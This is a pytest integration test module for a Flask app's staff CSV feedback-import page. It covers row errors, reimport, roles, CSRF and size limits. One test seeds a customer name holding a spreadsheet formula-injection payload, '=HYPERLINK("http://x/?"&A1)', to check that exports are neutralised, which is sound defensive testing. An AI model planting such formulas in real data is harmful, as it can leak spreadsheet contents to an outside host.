"""The upload page: import, per-line report, idempotence, roles, CSRF and size."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from engage.extensions import db
from engage.models import Aspect, Customer, FeedbackKind, FeedbackSource, Level
from tests.factories import make_agreement, make_customer
from tests.integration.imports.helpers import (
    DAY,
    GOOD,
    HEADER,
    Ids,
    as_user,
    audit_events,
    imported,
    upload,
)

#: The "validate only" box as rendered when ticked.
TICKED = r'<input [^>]*checked[^>]*name="validate_only"'


def _lines(page: str) -> list[str]:
    return re.findall(r'data-label="Row" class="num">(\d+)</td>', page)


def _count(page: str, label: str) -> str:
    found = re.search(rf"<dt[^>]*>{label}</dt><dd>(\d+)", page)
    assert found, page
    return found.group(1)


def test_upload_page_for_admin_and_manager(
    admin: FlaskClient, manager: FlaskClient
) -> None:
    for client in (admin, manager):
        page = client.get("/staff/feedback/import").get_data(as_text=True)
        assert "Import feedback" in page
        assert 'name="validate_only"' in page
        assert "/staff/feedback/import/sample.csv" in page
    # The manager's list of customers holds only theirs (and their departments).
    listing = manager.get("/staff/feedback/import").get_data(as_text=True)
    assert "Acme / Finance" in listing
    assert "Globex" not in listing
    assert "Globex" in admin.get("/staff/feedback/import").get_data(as_text=True)


def test_import_scores_tags_and_audits(
    app: Flask, admin: FlaskClient, world: Ids
) -> None:
    response = upload(admin, GOOD)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "Imported tickets.csv" in page
    assert (_count(page, "Rows read"), _count(page, "Imported")) == ("3", "3")
    assert _count(page, "with a CSAT score") == "2"
    assert _count(page, "Already present, skipped") == "0"
    rows = imported(app)
    text_rows = [r for r in rows if r.kind is FeedbackKind.TEXT]
    csat_rows = [r for r in rows if r.kind is FeedbackKind.CSAT]
    assert len(text_rows) == 3
    assert [r.score for r in csat_rows] == [1.0, 5.0]
    outage, thanks, question = text_rows
    assert {r.source for r in rows} == {FeedbackSource.IMPORT}
    assert outage.customer_id == world["acme"]
    assert outage.agreement_id == world["acme_sla"]
    assert outage.compound is not None
    assert outage.compound < -0.3
    assert thanks.compound is not None
    assert thanks.compound > 0.3
    assert outage.scorer_version
    assert outage.received_at.tzinfo is not None
    assert f"{outage.received_at:%H:%M}" == "12:00"
    assert f"{thanks.received_at:%H:%M}" == "09:30"
    with app.app_context():
        availability = db.session.query(Aspect).filter_by(name="Availability").one()
        assert outage.aspect_id == availability.id
    assert outage.aspect_matches == [
        {"aspect_id": availability.id, "aspect": "Availability", "words": ["outage"]}
    ]
    # The SLA's clause about availability is the one the comment is about.
    assert outage.objective_id == world["availability"]
    assert question.customer_id == world["finance"]
    # Each row, and each score, carries its own key.
    keys = [r.import_key for r in rows]
    assert len(set(keys)) == 5
    assert all(k is not None and len(k) == 64 for k in keys)
    assert csat_rows[0].received_at == outage.received_at
    assert csat_rows[0].text is None
    [event] = audit_events(app)
    assert event.action == "feedback.import"
    assert event.actor_email == "admin@example.test"
    assert event.details["filename"] == "tickets.csv"
    assert (event.details["imported"], event.details["scores"]) == (3, 2)
    assert (event.details["skipped"], event.details["errors"]) == (0, 0)


def test_reimport_adds_nothing_even_reordered(app: Flask, admin: FlaskClient) -> None:
    assert upload(admin, GOOD).status_code == 200
    before = [(r.id, r.import_key) for r in imported(app)]
    again = upload(admin, GOOD).get_data(as_text=True)
    assert (_count(again, "Imported"), _count(again, "Already present, skipped")) == (
        "0",
        "3",
    )
    header, *rows = GOOD.splitlines(keepends=True)
    shuffled = header + "".join(reversed(rows)) + "\n"
    page = upload(admin, shuffled, name="again.csv").get_data(as_text=True)
    assert (_count(page, "Imported"), _count(page, "Already present, skipped")) == (
        "0",
        "3",
    )
    assert [(r.id, r.import_key) for r in imported(app)] == before
    assert [e.details["imported"] for e in audit_events(app)] == [3, 0, 0]


def test_same_row_twice_in_one_file_is_stored_once(
    app: Flask, admin: FlaskClient
) -> None:
    line = f"Acme,Acme SLA,{DAY},Slow again,2\n"
    page = upload(admin, HEADER + line + line).get_data(as_text=True)
    assert (_count(page, "Imported"), _count(page, "Already present, skipped")) == (
        "1",
        "1",
    )
    assert len(imported(app)) == 2  # the comment and its score


BAD = (
    HEADER
    + f"Acme,Acme SLA,{DAY},Response was fine.,4\n"  # line 2: good
    + f"Initech,Acme SLA,{DAY},Who are we?,\n"  # 3: unknown customer
    + f"Acme,Globex SLA,{DAY},Wrong SLA,\n"  # 4: another customer's SLA
    + "Acme,Acme SLA,2025-31-12,Bad date,\n"  # 5
    + f"Acme,Acme SLA,{DAY},,\n"  # 6: empty text
    + f"Acme,Acme SLA,{DAY},Too good,7\n"  # 7: score out of range
    + f"Acme,Acme SLA,{DAY},{'x' * 5001},\n"  # 8: too long
    + f"Finance,Finance SLA,{DAY},Report arrived late again.,\n"  # 9: good
)


def test_partially_bad_file_imports_the_good_rows(
    app: Flask, admin: FlaskClient
) -> None:
    response = upload(admin, BAD)
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert _lines(page) == ["3", "4", "5", "6", "7", "8"]
    for message in (
        "unknown customer &#39;Initech&#39;",
        "unknown agreement &#39;Globex SLA&#39; for Acme",
        "&#39;2025-31-12&#39; is not a valid date",
        "the text is empty",
        "the score 7 is not a CSAT score from 1 to 5",
        "the text has 5,001 characters, more than 5,000",
    ):
        assert message in page
    assert "6 of 8 rows have problems and were not imported" in page
    assert not re.search(TICKED, page)
    assert (_count(page, "Imported"), _count(page, "With problems, not imported")) == (
        "2",
        "6",
    )
    texts = [r.text for r in imported(app) if r.kind is FeedbackKind.TEXT]
    assert texts == ["Response was fine.", "Report arrived late again."]
    [event] = audit_events(app)
    assert (event.details["imported"], event.details["errors"]) == (2, 6)


def test_validate_only_stores_nothing_and_stays_ticked(
    app: Flask, admin: FlaskClient
) -> None:
    page = upload(admin, BAD, validate_only="y").get_data(as_text=True)
    assert "Checked tickets.csv: nothing was imported" in page
    assert _count(page, "Would be imported") == "2"
    assert _lines(page) == ["3", "4", "5", "6", "7", "8"]
    assert re.search(TICKED, page)
    assert imported(app) == []
    assert audit_events(app) == []
    # A file that cannot be read keeps the choice too.
    response = upload(admin, b"", validate_only="y")
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "The file is empty." in page
    assert re.search(TICKED, page)
    response = upload(admin, GOOD, name="tickets.xlsx", validate_only="y")
    assert response.status_code == 422
    assert "Choose a file ending in .csv." in response.get_data(as_text=True)
    assert re.search(TICKED, response.get_data(as_text=True))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty."),
        (HEADER.encode("utf-16"), "The file is UTF-16"),
        (
            (HEADER + f"Acme,Acme SLA,{DAY},Très lent,\n").encode("latin-1"),
            "The file is not UTF-8 text (line 2",
        ),
        (b"customer,agreement,text\nAcme,Acme SLA,ok\n", "Missing: date."),
        (HEADER.encode(), "a header but no rows"),
    ],
)
def test_unreadable_files_are_explained(
    app: Flask, admin: FlaskClient, content: bytes, message: str
) -> None:
    response = upload(admin, content)
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert imported(app) == []


def test_oversize_upload_is_413(app: Flask, admin: FlaskClient) -> None:
    line = f"Acme,Acme SLA,{DAY},A comment long enough to fill the file quickly,3\n"
    content = HEADER + line * (1_100_000 // len(line))
    response = upload(admin, content)
    # The test client spools a body this large to a temporary file it leaves open.
    response.request.environ["wsgi.input"].close()
    assert response.status_code == 413
    assert imported(app) == []


def test_manager_imports_only_for_their_customers(
    app: Flask, manager: FlaskClient, world: Ids
) -> None:
    content = (
        HEADER
        + f"Acme,Acme SLA,{DAY},Ours,\n"
        + f"Globex,Globex SLA,{DAY},Not ours,\n"
        + f"Acme,{world['globex_sla']},{DAY},Another customer's SLA by id,\n"
    )
    page = upload(manager, content).get_data(as_text=True)
    assert _lines(page) == ["3", "4"]
    # The same words as for a customer that does not exist: nothing is given away.
    assert "unknown customer &#39;Globex&#39;" in page
    assert f"unknown agreement &#39;{world['globex_sla']}&#39; for Acme" in page
    assert [r.text for r in imported(app)] == ["Ours"]
    assert {r.customer_id for r in imported(app)} == {world["acme"]}


def test_admin_is_told_when_an_id_is_another_customers(
    admin: FlaskClient, world: Ids
) -> None:
    content = HEADER + f"Acme,{world['globex_sla']},{DAY},Wrong SLA by id,\n"
    page = upload(admin, content).get_data(as_text=True)
    assert f"SLA {world['globex_sla']} is not an SLA of Acme" in page


def test_viewer_and_anonymous_cannot_import(app: Flask, world: Ids) -> None:
    viewer = as_user(app, "viewer@example.test")
    assert viewer.get("/staff/feedback/import").status_code == 403
    assert upload(viewer, GOOD).status_code == 403
    assert viewer.get("/staff/feedback/import/sample.csv").status_code == 403
    anonymous = app.test_client()
    response = upload(anonymous, GOOD)
    assert response.status_code == 302
    assert "/staff/login" in response.headers["Location"]
    assert imported(app) == []


@pytest.fixture
def csrf_app_config(app_config: dict[str, Any]) -> dict[str, Any]:
    app_config["WTF_CSRF_ENABLED"] = True
    return app_config


def test_csrf_token_is_required(
    csrf_app_config: dict[str, Any], app: Flask, world: Ids
) -> None:
    client = app.test_client()
    login_page = client.get("/staff/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', login_page)
    assert token
    client.post(
        "/staff/login",
        data={
            "email": "admin@example.test",
            "password": "correct horse battery staple",
            "csrf_token": token.group(1),
        },
    )
    assert upload(client, GOOD).status_code == 400
    assert imported(app) == []
    form = client.get("/staff/feedback/import").get_data(as_text=True)
    token = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', form)
    assert token
    assert upload(client, GOOD, csrf_token=token.group(1)).status_code == 200
    assert len(imported(app)) == 5


def test_sample_is_guarded_and_imports_cleanly(app: Flask, admin: FlaskClient) -> None:
    with app.app_context():
        evil = make_customer('=HYPERLINK("http://x/?"&A1)')
        make_agreement(Level.CUSTOMER, "@SUM(1)", customer=evil)
        db.session.commit()
    response = admin.get("/staff/feedback/import/sample.csv")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeffcustomer,agreement,date,text,score\r\n")
    records = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    cells = [cell for record in records for cell in record]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert records[1][:2] == ['\'=HYPERLINK("http://x/?"&A1)', "'@SUM(1)"]
    # What Engage writes, Engage reads: the quotes come off again.
    page = upload(admin, text.encode()).get_data(as_text=True)
    assert "With problems, not imported</dt><dd>0" in page
    with app.app_context():
        names = {
            db.session.get_one(Customer, r.customer_id).name for r in imported(app)
        }
    assert names == {'=HYPERLINK("http://x/?"&A1)', "Acme"}


def test_overview_links_to_the_import_for_those_who_may(
    app: Flask, admin: FlaskClient, manager: FlaskClient
) -> None:
    for client in (admin, manager):
        page = client.get("/staff/").get_data(as_text=True)
        assert 'href="/staff/feedback/import"' in page
    viewer = as_user(app, "viewer@example.test")
    assert 'href="/staff/feedback/import"' not in viewer.get("/staff/").get_data(
        as_text=True
    )


#: Every route of the imports blueprint: each is denied to viewers and anonymous
#: visitors above, and reached by admins and managers (the positive controls).
ROUTES = {
    ("GET", "imports.feedback_import"),
    ("POST", "imports.feedback_import"),
    ("GET", "imports.feedback_sample"),
}


def test_routes_list_covers_every_imports_rule(
    app: Flask, admin: FlaskClient, manager: FlaskClient
) -> None:
    registered = {
        (method, rule.endpoint)
        for rule in app.url_map.iter_rules()
        if rule.endpoint.startswith("imports.")
        for method in (rule.methods or set()) - {"HEAD", "OPTIONS"}
    }
    assert registered == ROUTES
    for client in (admin, manager):
        assert client.get("/staff/feedback/import/sample.csv").status_code == 200
